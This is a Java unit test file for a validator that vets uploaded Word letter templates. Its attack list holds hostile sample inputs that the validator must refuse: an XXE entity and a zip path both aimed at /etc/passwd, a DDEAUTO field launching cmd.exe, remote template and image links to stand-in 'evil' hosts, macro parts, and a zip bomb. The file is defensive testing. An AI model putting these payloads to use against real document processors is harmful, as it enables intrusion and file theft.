package org.diaodu.command.letter;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

import org.diaodu.command.jurisdiction.ReferenceData;
import org.diaodu.kernel.evidence.Digests;
import org.diaodu.kernel.letter.LetterForm;
import org.diaodu.kernel.letter.LetterPlaceholder;
import org.diaodu.kernel.letter.command.AdoptLetterTemplate;
import org.diaodu.kernel.message.Clause;
import org.diaodu.kernel.message.Refusal;
import org.diaodu.kernel.message.RefusedException;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

@Clause({ "F-119", "F-120", "F-121" })
class TemplatesAreSoundTest {

	private static final LetterForm FORM = LetterForm.ASSIGNMENT;

	private static final String DOCUMENT = WordPackage.DOCUMENT;

	private static final String RELATIONS = "word/_rels/document.xml.rels";

	private static final String END = "</w:body>";

	private static Refusal refusal(byte[] template) {
		RefusedException refused = catchThrowableOfType(RefusedException.class,
				() -> TemplatesAreSound.require(WordPackage.read(template)));
		assertThat(refused).isNotNull();
		Refusal refusal = refused.refusal();
		assertThat(refusal.field()).isEqualTo("file");
		return refusal;
	}

	private static byte[] body(String more) {
		return Documents.with(FORM, DOCUMENT, END, more + END);
	}

	private static String paragraph(String... runs) {
		StringBuilder text = new StringBuilder("<w:p>");
		Arrays.stream(runs).forEach((run) -> text.append("<w:r><w:t>").append(run).append("</w:t></w:r>"));
		return text.append("</w:p>").toString();
	}

	private static String field(String... instructions) {
		StringBuilder text = new StringBuilder("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
		Arrays.stream(instructions)
			.forEach((each) -> text.append("<w:r><w:instrText>").append(each).append("</w:instrText></w:r>"));
		return text.append("<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").toString();
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static String relation(String type, String target, String mode) {
		return "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
				+ type + "\" Target=\"" + target + "\"" + mode + "/></Relationships>";
	}

	@ParameterizedTest
	@EnumSource(LetterForm.class)
	void whatIsShippedIsSoundAndTheOneTheReferenceDataAdopt(LetterForm form) {
		byte[] shipped = ShippedTemplates.read(form);
		assertThat(TemplatesAreSound.require(WordPackage.read(shipped))).contains(LetterPlaceholder.NUMBER,
				LetterPlaceholder.OBSTACLE, LetterPlaceholder.PROJECT);
		assertThat(ReferenceData.letters()).extracting(ReferenceData.Item::command)
			.filteredOn((command) -> ((AdoptLetterTemplate) command).form() == form)
			.singleElement()
			.satisfies(
					(command) -> assertThat(((AdoptLetterTemplate) command).digest()).isEqualTo(Digests.of(shipped)));
	}

	@Test
	void aTextWordSplitIntoRunsIsAPlaceholderAllTheSame() {
		assertThat(TemplatesAreSound.require(WordPackage.read(body(paragraph("{", "{约谈", "人数}", "}")))))
			.contains(LetterPlaceholder.INTERVIEWED);
	}

	@Test
	void ordinaryPartsOfWordAreTaken() {
		Map<String, byte[]> parts = Documents.parts(FORM);
		parts.put(WordPackage.TYPES,
				new String(Objects.requireNonNull(parts.get(WordPackage.TYPES)), StandardCharsets.UTF_8)
					.replaceFirst("<Override", "<Default Extension=\"png\" ContentType=\"image/png\"/><Override")
					.getBytes(StandardCharsets.UTF_8));
		parts.put("word/theme/theme1.xml", utf8("<a:theme xmlns:a=\"urn:a\" name=\"Office\"/>"));
		parts.put("word/media/image1.png", new byte[] { 1, 2, 3 });
		parts.put("customXml/item1.xml", utf8("<b:Sources xmlns:b=\"urn:b\"/>"));
		parts.put("customXml/_rels/item1.xml.rels",
				utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>"));
		assertThat(TemplatesAreSound.require(WordPackage.read(Documents.zip(parts)))).isNotEmpty();
	}

	static Stream<Arguments> attacks() {
		return Stream.of(Arguments.of("no zip", "LETTER_TEMPLATE_NOT_WORD", utf8("<html/>")),
				Arguments.of("nothing", "LETTER_TEMPLATE_NOT_WORD", new byte[0]),
				Arguments.of("another zip", "LETTER_TEMPLATE_NOT_WORD",
						Documents.zip(Map.of("xl/workbook.xml", new byte[] { 1 }))),
				Arguments.of("a spreadsheet that calls itself so", "LETTER_TEMPLATE_NOT_WORD",
						Documents.with(FORM, WordPackage.TYPES, "wordprocessingml.document.main",
								"spreadsheetml.sheet.main")),
				Arguments.of("broken off", "LETTER_TEMPLATE_NOT_WORD",
						Arrays.copyOf(ShippedTemplates.read(FORM), 2000)),
				Arguments.of("broken XML", "LETTER_TEMPLATE_NOT_WORD",
						Documents.with(FORM, DOCUMENT, END, "<w:p>" + END)),
				Arguments.of("a path upwards", "LETTER_TEMPLATE_NOT_WORD",
						Documents.plus(FORM, "word/../../etc/passwd", "")),
				Arguments.of("the same part twice", "LETTER_TEMPLATE_NOT_WORD",
						Documents.plus(FORM, "word/Document.xml", "<a/>")),
				Arguments.of("entities", "LETTER_TEMPLATE_NOT_WORD",
						Documents.with(FORM, DOCUMENT, "<w:document ",
								"<!DOCTYPE w:document [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document ")),
				Arguments.of("a macro", "LETTER_TEMPLATE_WITH_PROGRAM",
						Documents.plus(FORM, "word/vbaProject.bin", "x")),
				Arguments.of("a type with macros", "LETTER_TEMPLATE_WITH_PROGRAM",
						Documents.with(FORM, WordPackage.TYPES,
								"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
								"application/vnd.ms-word.document.macroEnabled.main+xml")),
				Arguments.of("an embedded object", "LETTER_TEMPLATE_WITH_PROGRAM",
						Documents.plus(FORM, "word/embeddings/oleObject1.bin", "x")),
				Arguments.of("an embedded page", "LETTER_TEMPLATE_PART_UNFIT",
						Documents.plus(FORM, "word/a.html", "x")),
				Arguments.of("a chunk", "LETTER_TEMPLATE_PART_UNFIT", body("<w:altChunk r:id=\"rId1\"/>")),
				Arguments.of("a template of the template", "LETTER_TEMPLATE_REFERS_OUTSIDE",
						Documents.with(FORM, RELATIONS, "</Relationships>",
								relation("attachedTemplate", "http://evil/x.dotm", " TargetMode=\"External\""))),
				Arguments.of("a picture from elsewhere", "LETTER_TEMPLATE_REFERS_OUTSIDE",
						Documents.with(FORM, RELATIONS, "</Relationships>",
								relation("image", "\\\\evil\\x.png", " TargetMode='External'"))),
				Arguments.of("an old picture from elsewhere", "LETTER_TEMPLATE_REFERS_OUTSIDE",
						body("<w:p><w:r><w:pict><v:imagedata xmlns:v=\"urn:schemas-microsoft-com:vml\""
								+ " src=\"http://evil/x.png\"/></w:pict></w:r></w:p>")),
				Arguments.of("a program started by a field", "LETTER_TEMPLATE_FIELD_UNFIT",
						body(field("DDEAUTO c:\\\\windows\\\\cmd.exe"))),
				Arguments.of("a field in pieces", "LETTER_TEMPLATE_FIELD_UNFIT", body(field("INCLUDE", "TEXT x"))),
				Arguments.of("a simple field", "LETTER_TEMPLATE_FIELD_UNFIT",
						body("<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE x \"/></w:p>")),
				Arguments.of("a comment", "LETTER_TEMPLATE_UNFINISHED",
						Documents.plus(FORM, "word/comments.xml", "<w/>")),
				Arguments.of("a tracked change", "LETTER_TEMPLATE_UNFINISHED",
						body("<w:p><w:ins w:id=\"1\" w:author=\"张三\"><w:r><w:t>改</w:t></w:r></w:ins></w:p>")),
				Arguments.of("an unknown placeholder", "LETTER_TEMPLATE_PLACEHOLDER_UNKNOWN",
						body(paragraph("{{局长姓名}}"))),
				Arguments.of("a picture placeholder", "LETTER_TEMPLATE_PLACEHOLDER_UNKNOWN",
						body(paragraph("{{@项目名称}}"))),
				Arguments.of("a placeholder not closed", "LETTER_TEMPLATE_PLACEHOLDER_BROKEN",
						body(paragraph("{{项目名称"))),
				Arguments.of("no number", "LETTER_TEMPLATE_PLACEHOLDER_MISSING",
						Documents.with(FORM, DOCUMENT, "{{函件编号}}", "")));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("attacks")
	void whatIsNotKnownToBeHarmlessIsRefused(String what, String code, byte[] template) {
		assertThat(refusal(template).code()).as(what).isEqualTo(code);
	}

	@Test
	void whatUnpacksToMoreThanItsBoundIsNotUnpacked() {
		Map<String, byte[]> parts = Documents.parts(FORM);
		parts.put("word/theme/theme1.xml", new byte[WordPackage.MAX_UNPACKED]);
		byte[] bomb = Documents.zip(parts);
		assertThat(bomb.length).isLessThan(20_000);
		assertThat(refusal(bomb).code()).isEqualTo("LETTER_TEMPLATE_UNPACKS_TOO_LARGE");
	}

	@Test
	void theNameOfAnUnknownPlaceholderIsTold() {
		assertThat(refusal(body(paragraph("{{局长姓名}}"))).arguments()).containsEntry("name", "局长姓名");
	}

}
